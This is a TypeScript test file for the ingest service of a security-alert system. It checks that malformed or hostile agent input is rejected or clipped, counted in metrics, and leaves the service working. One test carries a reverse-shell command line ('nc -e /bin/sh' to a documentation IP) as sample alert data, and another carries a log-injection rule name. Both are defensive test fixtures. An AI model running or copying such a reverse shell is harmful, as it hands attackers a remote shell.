// Issue 13, ingest side: what the nastiest agent sends gets a specific answer, a metric, and
// nothing else disturbed. Each case ends by showing that the service still serves a valid alert.
import { randomUUID } from 'node:crypto';
import { type ServiceError, status } from '@grpc/grpc-js';
import { type AgentEvent, type AlertServiceClient, RejectCode } from '@tripwire/proto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  AgentSession,
  bearer,
  connect,
  event,
  type RunningIngest,
  register,
  rowsFor,
  startIngest,
  submit,
  until,
  useEnvironment,
} from './ingest-harness.js';

const env = useEnvironment();
const DETAIL_LIMIT = 65_536;
let ingest: RunningIngest;
let client: AlertServiceClient;

beforeAll(async () => {
  ingest = await startIngest(env, {
    MAX_STREAMS_PER_HOST: '2',
    AGENT_STREAM_MAX_BUFFERED_BYTES: '65536',
  });
  client = connect(ingest.address);
});
afterAll(async () => {
  client?.close();
  await ingest?.stop();
});

const agent = () => register(client, `hostile-${randomUUID().slice(0, 8)}`);
const metricsText = async () => (await fetch(`${ingest.httpUrl}/metrics`)).text();
const counter = async (line: RegExp) => Number(line.exec(await metricsText())?.[1] ?? 0);

/** A valid alert on a fresh stream is stored and acknowledged: the service is still serving. */
async function stillServes(agentToken: string, hostId: string) {
  const session = new AgentSession(client, agentToken, true);
  const ok = event(hostId);
  session.send([ok]);
  await session.waitForAcks([ok.alertId]);
  session.end();
  expect((await session.status).code).toBe(status.OK);
}

/** Sends `bad` then a valid alert on one stream; returns the rejection of `bad`, if any. */
async function sendThenValid(agentToken: string, hostId: string, bad: AgentEvent) {
  const session = new AgentSession(client, agentToken, true);
  const ok = event(hostId);
  session.send([bad, ok]);
  await session.waitForAcks([ok.alertId]);
  session.end();
  await session.status;
  return session;
}

describe('row 2: a 10,000-deep event_detail_json', () => {
  it('is rejected EVENT_DETAIL_TOO_DEEP on the stream and INVALID_ARGUMENT on SubmitAlert; the stream goes on', async () => {
    const a = await agent();
    const deep = `${'['.repeat(10_000)}${']'.repeat(10_000)}`;
    const bad = event(a.hostId, { eventDetailJson: deep });
    const session = await sendThenValid(a.agentToken, a.hostId, bad);
    await until(() => session.rejections.length === 1);
    expect(session.rejections[0]).toMatchObject({
      alertId: bad.alertId,
      code: RejectCode.REJECT_CODE_EVENT_DETAIL_TOO_DEEP,
      reason: expect.stringMatching(/deeper than 64 levels/),
    });
    const err = (await submit(
      client,
      a.agentToken,
      event(a.hostId, { eventDetailJson: deep }),
    ).catch((e) => e)) as ServiceError;
    expect(err.code).toBe(status.INVALID_ARGUMENT);
    expect(err.details).toMatch(/REJECT_CODE_EVENT_DETAIL_TOO_DEEP/);
    expect(await rowsFor(env, [bad.alertId])).toEqual([]);
    await stillServes(a.agentToken, a.hostId);
  });
});

describe('row 4: a reverse shell padded with 70 KB of arguments', () => {
  it('is stored clipped, marked "truncated" with the original size, and acknowledged', async () => {
    const a = await agent();
    const cmdline = `nc -e /bin/sh 203.0.113.7 4444 ${'-v '.repeat(24_000)}`;
    const detailJson = JSON.stringify({ pid: 31337, cmdline, user: 'www-data' });
    const before = await counter(/^tripwire_ingest_alerts_clipped_total (\d+)/m);
    const padded = event(a.hostId, { ruleName: 'reverse-shell', eventDetailJson: detailJson });
    const session = new AgentSession(client, a.agentToken, true);
    session.send([padded]);
    await session.waitForAcks([padded.alertId]);
    expect(session.rejections).toEqual([]);
    session.end();
    await session.status;

    const [row] = await rowsFor(env, [padded.alertId]);
    expect(row.rule_name).toBe('reverse-shell');
    expect(row.event_detail).toMatchObject({
      pid: 31337,
      user: 'www-data',
      truncated: { event_detail_bytes: Buffer.byteLength(detailJson) },
    });
    expect(row.event_detail.cmdline).toMatch(/^nc -e \/bin\/sh 203\.0\.113\.7 4444 -v -v.*…$/);
    expect(Buffer.byteLength(JSON.stringify(row.event_detail))).toBeLessThanOrEqual(DETAIL_LIMIT);
    expect(await counter(/^tripwire_ingest_alerts_clipped_total (\d+)/m)).toBe(before + 1);

    // SubmitAlert stores it the same way.
    const unary = event(a.hostId, { eventDetailJson: detailJson });
    expect(await submit(client, a.agentToken, unary)).toEqual({
      alertId: unary.alertId,
      duplicate: false,
    });
    const [unaryRow] = await rowsFor(env, [unary.alertId]);
    expect(unaryRow.event_detail.truncated.event_detail_bytes).toBe(Buffer.byteLength(detailJson));
    await stillServes(a.agentToken, a.hostId);
  });
});

describe('row 5: an agent clock an hour fast', () => {
  it('is stored at the server time, flagged with clock_skew_us and agent_timestamp_us, and acknowledged', async () => {
    const a = await agent();
    const agentUs = (Date.now() + 3_600_000) * 1000;
    const fast = event(a.hostId, { timestampUs: agentUs });
    const before = Date.now();
    const session = new AgentSession(client, a.agentToken, true);
    session.send([fast]);
    await session.waitForAcks([fast.alertId]);
    expect(session.rejections).toEqual([]);
    session.end();
    await session.status;

    const [row] = await rowsFor(env, [fast.alertId]);
    expect(row.occurred_at.getTime()).toBeGreaterThanOrEqual(before - 1);
    expect(row.occurred_at.getTime()).toBeLessThanOrEqual(Date.now() + 1);
    expect(row.event_detail).toMatchObject({
      path: '/etc/passwd',
      pid: 1234,
      agent_timestamp_us: agentUs,
    });
    // About an hour ahead, measured against the server's receive time.
    expect(row.event_detail.clock_skew_us).toBeGreaterThan(3_500_000_000);
    expect(row.event_detail.clock_skew_us).toBeLessThanOrEqual(3_600_000_000);
    expect(await counter(/^tripwire_ingest_clock_skew_alerts_total (\d+)/m)).toBeGreaterThan(0);
    await stillServes(a.agentToken, a.hostId);
  });
});

describe('row 9: a 200 KB alert_id', () => {
  it('is quoted back clipped in the rejection, and no log line carries it whole', async () => {
    const a = await agent();
    const huge = 'x'.repeat(200_000);
    const session = await sendThenValid(a.agentToken, a.hostId, event(a.hostId, { alertId: huge }));
    await until(() => session.rejections.length === 1);
    const [rejection] = session.rejections;
    expect(rejection!.code).toBe(RejectCode.REJECT_CODE_INVALID_ALERT_ID);
    expect(rejection!.alertId).toBe(`${'x'.repeat(64)}…`);
    expect(rejection!.reason.length).toBeLessThan(200);
    const err = (await submit(client, a.agentToken, event(a.hostId, { alertId: huge })).catch(
      (e) => e,
    )) as ServiceError;
    expect(err.code).toBe(status.INVALID_ARGUMENT);
    expect(err.details.length).toBeLessThan(200);
    expect(ingest.logs.some((line) => line.includes('x'.repeat(100)))).toBe(false);
    await stillServes(a.agentToken, a.hostId);
  });
});

describe('row 10: a rule name with CR, LF and ESC', () => {
  it('is rejected INVALID_RULE_NAME with the name quoted escaped; free text elsewhere is untouched', async () => {
    const a = await agent();
    const forged = event(a.hostId, { ruleName: 'ok\r\n{"level":50,"msg":"forged"}\u001b[2K' });
    const err = (await submit(client, a.agentToken, forged).catch((e) => e)) as ServiceError;
    expect(err.code).toBe(status.INVALID_ARGUMENT);
    expect(err.details).toMatch(/control characters.*REJECT_CODE_INVALID_RULE_NAME/);
    expect(err.details).toContain('\\r\\n');
    expect(await rowsFor(env, [forged.alertId])).toEqual([]);
    await stillServes(a.agentToken, a.hostId);
  });
});

describe('row 8: an agent that stops reading its stream', () => {
  it('is cut off RESOURCE_EXHAUSTED past AGENT_STREAM_MAX_BUFFERED_BYTES, counted; it reconnects and is served', async () => {
    const a = await agent();
    const session = new AgentSession(client, a.agentToken, true);
    await until(() => session.commands.length > 0, 10_000, 'the rules on open');
    session.call.pause();
    const cutBefore = await counter(
      /^tripwire_ingest_limits_hit_total\{limit="agent_stream_budget"\} (\d+)/m,
    );
    // Each invalid alert earns a rejection of ~200 bytes the agent never reads.
    const badName = 'r'.repeat(300);
    for (let i = 0; i < 40; i++) {
      session.send(Array.from({ length: 250 }, () => event(a.hostId, { ruleName: badName })));
      const cut = await counter(
        /^tripwire_ingest_limits_hit_total\{limit="agent_stream_budget"\} (\d+)/m,
      );
      if (cut > cutBefore) break;
    }
    await until(
      async () =>
        (await counter(/^tripwire_ingest_limits_hit_total\{limit="agent_stream_budget"\} (\d+)/m)) >
        cutBefore,
      10_000,
      'the slow agent cut off',
    );
    session.call.resume();
    const ended = await session.status;
    expect(ended.code).toBe(status.RESOURCE_EXHAUSTED);
    expect(ended.details).toMatch(/stopped reading.*65536 bytes.*reconnect and resend/);
    await stillServes(a.agentToken, a.hostId);
  });
});

describe('row 11: more alert streams for one host than MAX_STREAMS_PER_HOST', () => {
  it('refuses the third RESOURCE_EXHAUSTED, counted; once one closes a new one is served', async () => {
    const a = await agent();
    const open = [
      new AgentSession(client, a.agentToken, true),
      new AgentSession(client, a.agentToken, true),
    ];
    for (const s of open) await until(() => s.commands.length > 0, 10_000, 'a stream open');
    const third = new AgentSession(client, a.agentToken, true);
    const refused = await third.status;
    expect(refused.code).toBe(status.RESOURCE_EXHAUSTED);
    expect(refused.details).toMatch(/already has 2 open alert streams \(MAX_STREAMS_PER_HOST=2\)/);
    expect(await metricsText()).toMatch(
      /^tripwire_ingest_limits_hit_total\{limit="streams_per_host"\} [1-9]/m,
    );
    open[0]!.end();
    await open[0]!.status;
    await stillServes(a.agentToken, a.hostId);
    open[1]!.end();
    await open[1]!.status;
  });
});

describe('row 11: alert streams cancelled while their token is being checked', () => {
  it('take no slot and leave no phantom connection: the agent is served, its host goes offline', async () => {
    const a = await agent();
    const connected = /^tripwire_ingest_connected_agents (\d+)/m;
    const before = await counter(connected);
    const waitingOnHosts = async () =>
      (
        await env.pool.query<{ n: number }>(
          `SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database()
             AND wait_event_type = 'Lock' AND query LIKE '%agent_token_hash = $1%'`,
        )
      ).rows[0]!.n;
    // Holding the hosts table keeps every token check waiting, so each cancel lands during one.
    const lock = await env.pool.connect();
    try {
      await lock.query('BEGIN');
      await lock.query('LOCK TABLE hosts IN ACCESS EXCLUSIVE MODE');
      const calls = Array.from({ length: 3 }, () => {
        const call = client.streamAlertBatches(bearer(a.agentToken));
        call.on('error', () => {});
        return call;
      });
      await until(async () => (await waitingOnHosts()) === 3, 10_000, 'three token checks');
      for (const call of calls) call.cancel();
      // A round trip on the same connection: the server has read the three cancellations.
      const probe = await submit(client, 'not-an-agent-token', event(a.hostId)).catch((e) => e);
      expect((probe as ServiceError).code).toBe(status.UNAUTHENTICATED);
      await lock.query('COMMIT');
    } finally {
      lock.release();
    }
    await until(async () => (await waitingOnHosts()) === 0, 10_000, 'the token checks done');
    // MAX_STREAMS_PER_HOST is 2: a slot taken by a cancelled call would refuse this stream.
    await stillServes(a.agentToken, a.hostId);
    await until(async () => (await counter(connected)) === before, 10_000, 'no phantom agents');
    await until(
      async () =>
        (await env.pool.query('SELECT status FROM hosts WHERE host_id = $1', [a.hostId])).rows[0]
          ?.status === 'offline',
      10_000,
      'the host offline',
    );
  });
});

describe('row 11: an alert stream whose token check outlasts the start of shutdown', () => {
  it('is refused UNAVAILABLE, not left open for shutdown to wait on until its grace runs out', async () => {
    const own = await startIngest(env);
    const c = connect(own.address);
    const lock = await env.pool.connect();
    try {
      const a = await register(c, `late-${randomUUID().slice(0, 8)}`);
      await lock.query('BEGIN');
      await lock.query('LOCK TABLE hosts IN ACCESS EXCLUSIVE MODE');
      const late = new AgentSession(c, a.agentToken, true);
      await until(
        async () =>
          (
            await env.pool.query(
              `SELECT 1 FROM pg_stat_activity WHERE datname = current_database()
                 AND wait_event_type = 'Lock' AND query LIKE '%agent_token_hash = $1%'`,
            )
          ).rowCount === 1,
        10_000,
        'the token check waiting',
      );
      const stopped = own.stop();
      await until(() => own.logs.some((l) => l.includes('draining: finishing open streams')));
      await lock.query('COMMIT');
      const ended = await late.status;
      expect(ended.code).toBe(status.UNAVAILABLE);
      expect(ended.details).toMatch(/shutting down; connect to another/);
      await stopped;
      expect(own.logs.join('')).not.toMatch(/grace period over/);
      // This process still serves: the shared service answers a valid alert.
      const b = await agent();
      await stillServes(b.agentToken, b.hostId);
    } finally {
      lock.release();
      c.close();
      await own.stop();
    }
  });
});

describe('row 11: RegisterAgent in a loop, and long-lived connections', () => {
  it('throttles wrong enrollment tokens past REGISTER_RATE_LIMIT_PER_MINUTE per address; a valid token still enrolls', async () => {
    const limited = await startIngest(env, { REGISTER_RATE_LIMIT_PER_MINUTE: '3' });
    // Every agent behind one proxy address: one guesser must not block their enrollment.
    const c = connect(limited.address);
    const wrong = 'x'.repeat(32);
    try {
      for (let i = 0; i < 3; i++) {
        const err = (await register(c, `guess-${i}`, wrong).catch((e) => e)) as ServiceError;
        expect(err.code).toBe(status.UNAUTHENTICATED);
      }
      const throttled = (await register(c, 'guess-4', wrong).catch((e) => e)) as ServiceError;
      expect(throttled.code).toBe(status.RESOURCE_EXHAUSTED);
      expect(throttled.details).toMatch(
        /too many failed RegisterAgent attempts.*REGISTER_RATE_LIMIT_PER_MINUTE=3.*retry in \d+ s/,
      );
      const text = await (await fetch(`${limited.httpUrl}/metrics`)).text();
      expect(text).toMatch(/^tripwire_ingest_limits_hit_total\{limit="register_rate"\} 1$/m);
      // A valid token is neither counted nor refused, however many agents enroll.
      const enrolled = [];
      for (let i = 0; i < 4; i++)
        enrolled.push(await register(c, `nat-${randomUUID().slice(0, 8)}`));
      const throttledAgain = (await register(c, 'guess-5', wrong).catch((e) => e)) as ServiceError;
      expect(throttledAgain.code).toBe(status.RESOURCE_EXHAUSTED);
      const ok = event(enrolled[3]!.hostId);
      expect(await submit(c, enrolled[3]!.agentToken, ok)).toEqual({
        alertId: ok.alertId,
        duplicate: false,
      });
    } finally {
      c.close();
      await limited.stop();
    }
  });

  it('asks a connection older than GRPC_MAX_CONNECTION_AGE_MS to go away; the agent reconnects', async () => {
    const aging = await startIngest(env, {
      GRPC_MAX_CONNECTION_AGE_MS: '1000',
      GRPC_MAX_CONNECTION_AGE_GRACE_MS: '500',
    });
    const c = connect(aging.address);
    try {
      const a = await register(c, `aging-${randomUUID().slice(0, 8)}`);
      const session = new AgentSession(c, a.agentToken, true);
      const ended = await session.status;
      expect(ended.code).not.toBe(status.OK);
      const again = new AgentSession(c, a.agentToken, true);
      const ok = event(a.hostId);
      again.send([ok]);
      await again.waitForAcks([ok.alertId]);
      again.end();
      await again.status;
    } finally {
      c.close();
      await aging.stop();
    }
  });
});
